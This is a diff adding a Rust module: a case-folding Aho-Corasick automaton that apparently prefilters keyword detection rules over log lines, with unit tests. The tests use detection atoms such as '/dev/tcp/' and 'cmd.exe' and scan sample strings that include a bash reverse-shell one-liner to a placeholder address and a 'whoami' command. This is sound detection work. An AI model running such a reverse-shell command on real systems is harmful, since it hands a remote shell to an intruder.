@@ -1,0 +1,308 @@
+//! A dense, ASCII-case-folding Aho-Corasick automaton for a field's atoms.
+//!
+//! The prefilter needs every occurrence of every atom (overlapping), and
+//! the `aho-corasick` crate's overlapping search goes through its generic
+//! automaton interface: some 20 instructions per byte even on its DFA. Most
+//! scanned text that does not repeat is a raw line of 100–300 bytes (web
+//! and syslog keyword rules), so that walk — or the packed presence check
+//! and the lower-cased copy it needs — was most of an event's cost. This
+//! automaton is a plain table walk: one class lookup and one transition per
+//! byte, with match states numbered last so that a single compare tells
+//! whether a state reports anything.
+//!
+//! Upper- and lower-case ASCII letters share a byte class, so the automaton
+//! finds the (lower-cased) atoms in the original text wherever that text is
+//! pure ASCII: there, lower-casing character by character is ASCII
+//! lower-casing byte by byte, and no copy is needed. Text with other
+//! characters must still be lower-cased first (`İ`, the Kelvin sign and
+//! friends change length or become ASCII); on lower-cased text, which has
+//! no ASCII capitals, folding changes nothing.
+
+/// Largest table built, in bytes: beyond it the field keeps the compact
+/// automaton of the `aho-corasick` crate.
+pub const MAX_TABLE_BYTES: usize = 8 << 20;
+
+/// The automaton (see the module documentation).
+#[derive(Debug, Clone)]
+pub struct DenseScan {
+    /// Byte → class; bytes no pattern contains share class 0, an ASCII
+    /// capital the class of its small letter.
+    classes: [u8; 256],
+    /// Transitions, `table[state + class]`, states premultiplied by the
+    /// number of classes.
+    table: Vec<u32>,
+    /// Smallest (premultiplied) state that reports patterns: every state
+    /// from here on does, none before.
+    first_match: u32,
+    /// Number of classes (the table's row length).
+    stride: u32,
+    /// Per match state (in order from `first_match`): range into `pats`.
+    spans: Vec<(u32, u32)>,
+    /// Pattern indices reported by the match states, own patterns and
+    /// those of the states they fall back to.
+    pats: Vec<u32>,
+}
+
+const NONE: u32 = u32::MAX;
+
+impl DenseScan {
+    /// The automaton for `patterns` (lower-cased atoms; index = pattern id),
+    /// or `None` when a pattern is empty or has an ASCII capital (the
+    /// folding would then change what it finds) or the table would exceed
+    /// [`MAX_TABLE_BYTES`].
+    pub fn new(patterns: &[&[u8]]) -> Option<DenseScan> {
+        if patterns
+            .iter()
+            .any(|p| p.is_empty() || p.iter().any(u8::is_ascii_uppercase))
+        {
+            return None;
+        }
+        let mut classes = [0u8; 256];
+        let mut used = [false; 256];
+        for p in patterns {
+            for &b in *p {
+                used[b as usize] = true;
+            }
+        }
+        let mut n_classes: usize = 1;
+        for b in 0..256usize {
+            if used[b] {
+                if n_classes > usize::from(u8::MAX) {
+                    return None;
+                }
+                classes[b] = n_classes as u8;
+                n_classes += 1;
+            }
+        }
+        for b in b'A'..=b'Z' {
+            classes[b as usize] = classes[b.to_ascii_lowercase() as usize];
+        }
+        let stride = n_classes;
+
+        // the trie, rows of `stride` entries
+        let mut trie: Vec<u32> = vec![NONE; stride];
+        let mut own: Vec<Vec<u32>> = vec![Vec::new()];
+        let states_max = MAX_TABLE_BYTES / 4 / stride;
+        for (i, p) in patterns.iter().enumerate() {
+            let mut s = 0usize;
+            for &b in *p {
+                let at = s * stride + classes[b as usize] as usize;
+                if trie[at] == NONE {
+                    let n = own.len();
+                    if n >= states_max {
+                        return None;
+                    }
+                    trie[at] = n as u32;
+                    trie.extend(std::iter::repeat_n(NONE, stride));
+                    own.push(Vec::new());
+                }
+                s = trie[at] as usize;
+            }
+            own[s].push(i as u32);
+        }
+        let n = own.len();
+
+        // failure links breadth first; missing transitions become the
+        // fallback state's transitions, so the table is complete
+        let mut fail = vec![0u32; n];
+        let mut order = Vec::with_capacity(n);
+        let mut out: Vec<Vec<u32>> = own;
+        for t in trie.iter_mut().take(stride) {
+            match *t {
+                NONE => *t = 0,
+                child => {
+                    fail[child as usize] = 0;
+                    order.push(child);
+                }
+            }
+        }
+        let mut head = 0;
+        while let Some(&s) = order.get(head) {
+            head += 1;
+            let s = s as usize;
+            let f = fail[s] as usize;
+            for c in 0..stride {
+                let child = trie[s * stride + c];
+                let via_fail = trie[f * stride + c];
+                if child == NONE {
+                    trie[s * stride + c] = via_fail;
+                } else {
+                    let cf = via_fail as usize;
+                    fail[child as usize] = cf as u32;
+                    if !out[cf].is_empty() {
+                        let inherited = out[cf].clone();
+                        out[child as usize].extend(inherited);
+                    }
+                    order.push(child);
+                }
+            }
+        }
+
+        // renumber: states without matches first (the root stays 0)
+        let mut new_id = vec![0u32; n];
+        let mut next = 0u32;
+        for (s, o) in out.iter().enumerate() {
+            if o.is_empty() {
+                new_id[s] = next;
+                next += 1;
+            }
+        }
+        let first = next;
+        let mut spans = Vec::new();
+        let mut pats = Vec::new();
+        for (s, o) in out.iter().enumerate() {
+            if !o.is_empty() {
+                new_id[s] = next;
+                next += 1;
+                let a = pats.len() as u32;
+                pats.extend_from_slice(o);
+                spans.push((a, pats.len() as u32));
+            }
+        }
+        let mut table = vec![0u32; n * stride];
+        for s in 0..n {
+            let row = new_id[s] as usize * stride;
+            for c in 0..stride {
+                table[row + c] = new_id[trie[s * stride + c] as usize] * stride as u32;
+            }
+        }
+        Some(DenseScan {
+            classes,
+            table,
+            first_match: first * stride as u32,
+            stride: stride as u32,
+            spans,
+            pats,
+        })
+    }
+
+    /// Calls `f` with the pattern id of every occurrence of a pattern in
+    /// `hay` (ASCII letters folded), ending position by ending position.
+    #[inline]
+    pub fn for_each_match(&self, hay: &[u8], mut f: impl FnMut(u32)) {
+        let table = self.table.as_slice();
+        let classes = &self.classes;
+        let first = self.first_match;
+        // (the table is complete and states are premultiplied, so an index
+        // is always in bounds; the check is a never-taken branch)
+        let step = |s: u32, b: u8| table[(s + u32::from(classes[b as usize])) as usize];
+        let mut s = 0u32;
+        // four bytes per round, one branch for all four states: most bytes
+        // of most texts end in no atom
+        let mut quads = hay.chunks_exact(4);
+        for q in &mut quads {
+            let s1 = step(s, q[0]);
+            let s2 = step(s1, q[1]);
+            let s3 = step(s2, q[2]);
+            let s4 = step(s3, q[3]);
+            if s1.max(s2).max(s3.max(s4)) >= first {
+                for x in [s1, s2, s3, s4] {
+                    if x >= first {
+                        self.report(x, &mut f);
+                    }
+                }
+            }
+            s = s4;
+        }
+        for &b in quads.remainder() {
+            s = step(s, b);
+            if s >= first {
+                self.report(s, &mut f);
+            }
+        }
+    }
+
+    /// The patterns of match state `s`.
+    #[cold]
+    fn report(&self, s: u32, f: &mut impl FnMut(u32)) {
+        let k = ((s - self.first_match) / self.stride) as usize;
+        if let Some(&(a, z)) = self.spans.get(k) {
+            for &p in self.pats.get(a as usize..z as usize).unwrap_or(&[]) {
+                f(p);
+            }
+        }
+    }
+
+    /// Heap bytes of the table and match lists.
+    pub fn memory_usage(&self) -> usize {
+        self.table.len() * 4 + self.spans.len() * 8 + self.pats.len() * 4
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Pattern ids of every occurrence, by brute force over the
+    /// ASCII-lower-cased text.
+    fn naive(pats: &[&[u8]], hay: &[u8]) -> Vec<u32> {
+        let low = hay.to_ascii_lowercase();
+        let mut out = Vec::new();
+        for end in 1..=low.len() {
+            for (i, p) in pats.iter().enumerate() {
+                if end >= p.len() && &low[end - p.len()..end] == *p {
+                    out.push(i as u32);
+                }
+            }
+        }
+        out.sort_unstable();
+        out
+    }
+
+    fn found(d: &DenseScan, hay: &[u8]) -> Vec<u32> {
+        let mut out = Vec::new();
+        d.for_each_match(hay, |p| out.push(p));
+        out.sort_unstable();
+        out
+    }
+
+    #[test]
+    fn finds_every_overlapping_occurrence_with_ascii_case_folded() {
+        let pats: Vec<&[u8]> = vec![
+            b"he",
+            b"she",
+            b"his",
+            b"hers",
+            b"cmd.exe",
+            b"exe",
+            b"e",
+            b"/dev/tcp/",
+        ];
+        let d = DenseScan::new(&pats).expect("small automaton");
+        for hay in [
+            &b"ushers"[..],
+            b"SHE said HIS and HERS",
+            b"C:\\Windows\\System32\\CMD.EXE /c whoami",
+            b"bash -i >& /DEV/TCP/10.0.0.1/4444",
+            b"",
+            b"eeee",
+        ] {
+            assert_eq!(
+                found(&d, hay),
+                naive(&pats, hay),
+                "{:?}",
+                String::from_utf8_lossy(hay)
+            );
+        }
+    }
+
+    #[test]
+    fn non_ascii_bytes_are_matched_exactly() {
+        // "é" and the Cyrillic "с" as atoms; capitals outside ASCII are not
+        // folded (the evaluator lower-cases such text first)
+        let pats: Vec<&[u8]> = vec!["é".as_bytes(), "сmd".as_bytes(), b"abc"];
+        let d = DenseScan::new(&pats).expect("small automaton");
+        let hay = "É é Сmd сMD ABC".as_bytes();
+        let mut got = Vec::new();
+        d.for_each_match(hay, |p| got.push(p));
+        got.sort_unstable();
+        assert_eq!(got, vec![0, 1, 2]);
+    }
+
+    #[test]
+    fn refuses_patterns_folding_would_change() {
+        assert!(DenseScan::new(&[b"Cmd"]).is_none());
+        assert!(DenseScan::new(&[b""]).is_none());
+        assert!(DenseScan::new(&[b"cmd"]).is_some());
+    }
+}
